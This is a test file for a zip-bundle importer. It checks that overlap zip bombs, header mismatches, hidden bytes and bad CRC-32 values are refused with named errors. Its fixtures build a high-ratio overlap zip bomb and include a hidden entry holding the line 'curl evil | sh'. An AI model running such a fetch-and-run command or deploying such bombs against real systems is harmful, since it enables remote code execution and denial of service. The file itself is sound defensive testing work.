// Hostile bundles whose zip layout lies (entries sharing bytes, local headers against the central directory, bytes the end record hides, wrong CRC-32): each refused, naming the entry and the rule, the vault untouched.
import { describe, expect, it } from 'vitest';
import { deflateRawSync } from 'node:zlib';
import { sourceEntryPath } from './bundle-paths.ts';
import { buildZip, withManifest, type RawEntry, type RawLayout } from './test-zip.ts';
import { quotedOverlapBomb } from './test-zip-bomb.ts';
import { folder, good, useHostileVault, withListed, zipListing, zipOf, type Listed } from './hostile-harness.ts';

const { expectRefused } = useHostileVault();

describe('entries that share bytes (zip bombs by overlap)', () => {
  it('two central directory records pointing at the same local header', async () => {
    const data = Buffer.from('{"shared":true}\n');
    const { entries, manifest } = withListed([
      { originalPath: '/home/dev/a.json', data },
      { originalPath: '/home/dev/b.json', data, sharesLocalOf: 2 },
    ]);
    const message = await expectRefused(buildZip(withManifest(entries, manifest)), 'overlapping-entries', sourceEntryPath(folder, '/home/dev/b.json'));
    expect(message).toContain(sourceEntryPath(folder, '/home/dev/a.json'));
  });

  it('the "better zip bomb": each entry\'s data runs on into the next entry\'s, with true sizes and CRCs', async () => {
    const paths = Array.from({ length: 100 }, (_, i) => `/home/dev/bomb/${i}.bin`);
    const bomb = quotedOverlapBomb(
      paths.map((p) => sourceEntryPath(folder, p)),
      Buffer.alloc(512 * 1024),
    );
    const { entries, manifest } = withListed(bomb.map(({ name: _name, ...e }, i) => ({ ...e, originalPath: paths[i] as string })));
    const zip = buildZip(withManifest(entries, manifest).map((e) => (e.name === 'manifest.json' ? { ...e, method: 8 } : e)));
    // Past the 1000:1 the ratio rule allows, though no entry of it is over that rule's limit.
    const expands = bomb.reduce((sum, e) => sum + e.data.length, 0);
    expect(expands / zip.length).toBeGreaterThan(1000);
    const message = await expectRefused(zip, 'overlapping-entries', sourceEntryPath(folder, paths[1] as string));
    expect(message).toContain(sourceEntryPath(folder, paths[0] as string));
  });

  it('many small entries that together expand past the ratio limit, each under the size it is checked at', async () => {
    const zeros = Array.from({ length: 8 }, (_, i) => ({ originalPath: `/home/dev/zeros${i}.bin`, data: Buffer.alloc(1024 * 1024), method: 8 }));
    const message = await expectRefused(zipListing(zeros), 'compression-ratio', null, { maxRatio: 100 });
    expect(message).toMatch(/the whole bundle expands \d+:1/);
  });
});

describe('local headers that disagree with the central directory', () => {
  const source = good().entries[1] as RawEntry;
  it.each([
    ['name', { local: { name: 'evil.sh' } }, 'name'],
    ['compression method', { local: { method: 8 } }, 'compression method'],
    ['flags', { local: { flags: 0x800 | 0x2 } }, 'flags'],
    ['CRC-32', { local: { crc: 0x1234 } }, 'CRC-32'],
    ['compressed size', { local: { compressedSize: 3 } }, 'compressed size'],
    ['uncompressed size', { local: { uncompressedSize: 3 } }, 'uncompressed size'],
    ['data descriptor CRC-32', { descriptor: { crc: 0x1234 } }, 'data descriptor'],
    ['data descriptor size', { descriptor: { uncompressedSize: 3 } }, 'data descriptor'],
  ] as Array<[string, Partial<RawEntry>, string]>)('%s', async (_label, lie, field) => {
    const { entries, manifest } = good();
    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, ...lie }], manifest)), 'header-mismatch', source.name);
    expect(message).toContain(field);
  });
});

describe('bytes the end record or the central directory hide', () => {
  const hidden: Listed = { originalPath: '/home/dev/hidden.sh', data: Buffer.from('curl evil | sh\n') };
  it.each([
    ['the end record counts fewer entries than the central directory holds', { endCount: 3 }, 'counts 3 entries'],
    ['a local entry the central directory leaves out', { unlisted: [3] }, 'belong to no entry'],
    ['data before the first entry', { prepend: Buffer.alloc(64, 0x90) }, 'belong to no entry'],
    ['data between two entries', { after: { index: 0, bytes: Buffer.from('PK\x03\x04 hidden') } }, 'belong to no entry'],
    ['data between the central directory and the end record', { beforeEnd: Buffer.from('hidden') }, 'central directory'],
  ] as Array<[string, RawLayout, string]>)('%s', async (_label, layout, why) => {
    const { entries, manifest } = withListed([hidden]);
    // Hidden by the end record or the central directory, the entry is written last and listed nowhere.
    const hiddenLast = [...withManifest(entries.slice(0, 2), good().manifest), entries[2] as RawEntry];
    const zip = layout.endCount !== undefined || layout.unlisted ? buildZip(hiddenLast, layout) : buildZip(withManifest(entries, manifest), layout);
    const message = await expectRefused(zip, 'hidden-data', null);
    expect(message).toContain(why);
  });

  it('bytes inside an entry after its deflate stream ends', async () => {
    const { entries, manifest } = good();
    const source = entries[1] as RawEntry;
    const body = Buffer.concat([deflateRawSync(source.data), Buffer.from('PK\x03\x04 a second archive hides here')]);
    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, method: 8, body }], manifest)), 'hidden-data', source.name);
    expect(message).toContain('deflate data ends');
  });

  it('a folder entry that carries data', async () => {
    await expectRefused(zipOf([{ name: 'sessions/x/', data: Buffer.from('hidden') }]), 'hidden-data', 'sessions/x/');
  });
});

describe('wrong CRC-32', () => {
  it.each([
    ['a stored source', { crc: 0xdeadbeef }],
    ['a deflated source', { crc: 0xdeadbeef, method: 8 }],
    ['a streamed source (the CRC in its data descriptor)', { crc: 0xdeadbeef, method: 8, descriptor: {} }],
  ] as Array<[string, Partial<RawEntry>]>)('%s', async (_label, lie) => {
    const { entries, manifest } = good();
    const source = entries[1] as RawEntry;
    const message = await expectRefused(buildZip(withManifest([entries[0] as RawEntry, { ...source, ...lie }], manifest)), 'crc-mismatch', source.name);
    expect(message).toContain('deadbeef');
  });

  it('in the manifest itself', async () => {
    const { entries, manifest } = good();
    const [manifestEntry] = withManifest([], manifest) as [RawEntry];
    await expectRefused(buildZip([...entries, { ...manifestEntry, crc: 0xdeadbeef }]), 'crc-mismatch', 'manifest.json');
  });
});
